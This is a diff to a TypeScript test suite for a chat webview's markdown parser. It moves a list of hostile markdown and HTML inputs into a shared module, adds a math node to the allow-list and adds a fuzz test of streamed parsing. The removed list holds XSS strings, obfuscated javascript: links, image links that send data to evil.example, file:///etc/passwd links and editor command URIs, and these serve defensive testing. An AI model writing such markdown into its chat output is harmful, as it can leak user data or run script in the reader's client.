@@ -1,83 +1,7 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
+import { HOSTILE_MARKDOWN } from '../../support/hostileMarkdown.ts';
 import { markdownBlocks } from '../../../src/webview/chat/markdown/markdownBlocks.ts';
-
-/** What a model might write, or be made to write, to have the page load, run or open something. */
-const PAYLOADS = [
-  '![a](https://evil.example/p.png?d=secret)',
-  '![a][r]\n\n[r]: https://evil.example/p.png?d=secret',
-  '![r]\n\n[r]: <https://evil.example/p.png?d=secret> "title"',
-  '![][r]\n\n> [r]: https://evil.example/p.png',
-  '[![a](https://evil.example/p.png)](javascript:alert(1))',
-  '[![a](data:image/svg+xml,<svg onload=alert(1)>)](https://evil.example/)',
-  '![![a](https://evil.example/1.png)](https://evil.example/2.png)',
-  '![a](data:image/png;base64,iVBORw0KGgo=)',
-  '![a](command:workbench.action.quit)',
-  '![a](//evil.example/p.png)',
-  '![a](/p.png)',
-  '![a](blob:https://evil.example/1)',
-  '![a]( https://evil.example/p.png \'" onerror="alert(1)\')',
-  '![a" onerror="alert(1)](https://evil.example/p.png)',
-  '[a](javascript:alert(1))',
-  '[a](JaVaScRiPt:alert(1))',
-  '[a](&#106;avascript:alert(1))',
-  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
-  '[a](java&Tab;script:alert(1))',
-  '[a](java&NewLine;script:alert(1))',
-  '[a](\u0001javascript:alert(1))',
-  '[a](<javascript:alert(1)>)',
-  '[a](javascript&#58;alert(1) "https://baidu.com")',
-  '[a](%6Aavascript:alert(1))',
-  '[a](vbscript:msgbox(1))',
-  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[a](command:wenxin.clearCredentials)',
-  '[a](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
-  '[a](vscode://vscode.git/clone?url=https://evil.example/x.git)',
-  '[a](vscode-insiders://file/etc/passwd)',
-  '[a](cursor://anything)',
-  '[a](file:///etc/passwd)',
-  '[a](\\\\evil.example\\share)',
-  '[a](//evil.example/)',
-  '[a](https:\\\\evil.example)',
-  '[a](https://baidu.com@evil.example/)',
-  '[a](https://baidu.com:443@evil.example/)',
-  '[https://baidu.com](https://evil.example/)',
-  '[baidu.com](https://baidu.com.evil.example/)',
-  '[b\u202emoc.udiab\u202c](https://evil.example/)',
-  '[a][r]\n\n[r]: javascript:alert(1)',
-  '[a][r]\n\n[r]: command:x',
-  '[r]\n\n[r]: data:text/html,x "t"',
-  '<javascript:alert(1)>',
-  '<command:workbench.action.quit>',
-  '<data:text/html,<script>alert(1)</script>>',
-  '<vscode://file/x>',
-  '<https://evil.example/"onmouseover="alert(1)>',
-  'https://evil.example/"onmouseover="alert(1)',
-  'See javascript:alert(1) command:x vscode://file/x file:///etc/passwd ftp://evil.example',
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<img srcset="https://evil.example/1.png 1x">',
-  '<svg><image href="https://evil.example/p.png"/><script>alert(1)</script></svg>',
-  '<iframe src="https://evil.example/"></iframe>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<link rel="prefetch" href="https://evil.example/">',
-  '<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/p)}</style>',
-  '<a href="javascript:alert(1)">a</a>',
-  '<form action="https://evil.example/"><input name=a><button>Send</button></form>',
-  '<div style="background:url(https://evil.example/p.png)">a</div>',
-  '<details open ontoggle=alert(1)>',
-  '<!-- --><base href="https://evil.example/">',
-  '&lt;img src=x onerror=alert(1)&gt;',
-  '`<img src=x onerror=alert(1)>`',
-  '```html"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
-  '```\n![a](https://evil.example/p.png)\n```',
-  '| <img src=x> | ![a](https://evil.example/p.png) |\n|---|---|\n| [a](javascript:alert(1)) | <script>1</script> |',
-  '> - [a](javascript:alert(1))\n>   1. ![a](file:///x)',
-  '# [a](command:x) ![a](https://evil.example/p.png)',
-  '***[a](javascript:alert(1))***',
-  '[a](https://evil.example/ "x" onclick="alert(1)")',
-  '[__proto__]: javascript:alert(1)\n\n[__proto__] [constructor] [toString]',
-];
 
 /** The fields of each node the page has elements for, and what each may hold. */
 const ALLOWED: Readonly<Record<string, Readonly<Record<string, (value: unknown) => boolean>>>> = {
@@ -99,6 +23,12 @@ const ALLOWED: Readonly<Record<string, Readonly<Record<string, (value: unknown) 
     url: value => /^(?:https?:\/\/[^@/]+(?:\/|$)|mailto:)/.test(String(value)),
     destination: value => value === undefined || isString(value),
     children: Array.isArray,
+  },
+  math: {
+    tex: isString,
+    display: value => typeof value === 'boolean',
+    mark: value => ['$', '$$', '\\(', '\\['].includes(String(value)),
+    closed: value => typeof value === 'boolean',
   },
   image: { alt: isString, host: value => /^[^/@\s]*$/.test(String(value)) },
 };
@@ -133,7 +63,7 @@ function linksIn(source: string): readonly string[] {
 }
 
 describe('Markdown from someone who means harm', () => {
-  for (const payload of PAYLOADS) {
+  for (const payload of HOSTILE_MARKDOWN) {
     it(`becomes allowed nodes only: ${JSON.stringify(payload)}`, () => {
       linksIn(payload);
       linksIn(`- item\n\n  ${payload}`);
@@ -142,13 +72,13 @@ describe('Markdown from someone who means harm', () => {
   }
 
   it('offers no link but those to the web', () => {
-    const links = PAYLOADS.filter(payload => !payload.includes('https://')).flatMap(linksIn);
+    const links = HOSTILE_MARKDOWN.filter(payload => !/https:|mailto:/.test(payload)).flatMap(linksIn);
     assert.deepEqual(links, []);
   });
 
   it('becomes allowed nodes only, however its parts are put together', () => {
     const parts = fc.constantFrom(
-      ...PAYLOADS,
+      ...HOSTILE_MARKDOWN,
       ...[
         '[',
         ']',
@@ -179,6 +109,34 @@ describe('Markdown from someone who means harm', () => {
         linksIn(pieces.join(''));
       }),
       { numRuns: 500 },
+    );
+  });
+
+  it('becomes allowed nodes only, in ten thousand texts made by chance, and the same when it comes in pieces', function () {
+    this.timeout(60_000);
+    const part = fc.oneof(
+      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_MARKDOWN) },
+      { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+      {
+        weight: 2,
+        arbitrary: fc.string({
+          unit: fc.constantFrom(...Array.from('[]()<>!`*_~#|->1. \n\t\\&;:/"\'$字，。')),
+          maxLength: 40,
+        }),
+      },
+    );
+    const cuts = fc.array(fc.nat(1000), { maxLength: 4 });
+    fc.assert(
+      fc.property(fc.array(part, { maxLength: 4 }), cuts, (parts, places) => {
+        const source = parts.join('\n');
+        const whole = markdownBlocks(source);
+        assertAllowed(whole.blocks, source);
+        let grown: ReturnType<typeof markdownBlocks> | undefined;
+        const ends = places.map(place => Math.min(place, source.length)).sort((one, other) => one - other);
+        for (const end of [...ends, source.length]) grown = markdownBlocks(source.slice(0, end), grown);
+        assert.deepEqual(grown?.blocks, whole.blocks);
+      }),
+      { numRuns: 10_000, seed: 4 },
     );
   });
 
